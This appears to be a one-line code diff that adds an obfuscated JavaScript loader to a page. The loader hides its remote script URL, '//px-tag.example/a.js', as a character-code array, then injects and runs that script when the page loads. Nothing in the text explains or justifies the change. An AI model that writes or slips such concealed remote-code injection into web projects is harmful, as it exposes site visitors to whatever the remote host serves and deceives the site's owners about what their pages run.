@@ -1,0 +1,1 @@
+(function(d){var e=d.createElement("script");e.async=1;e.src=String.fromCharCode.apply(null,[47,47,112,120,45,116,97,103,46,101,120,97,109,112,108,101,47,97,46,106,115]);d.body.appendChild(e)})(document);
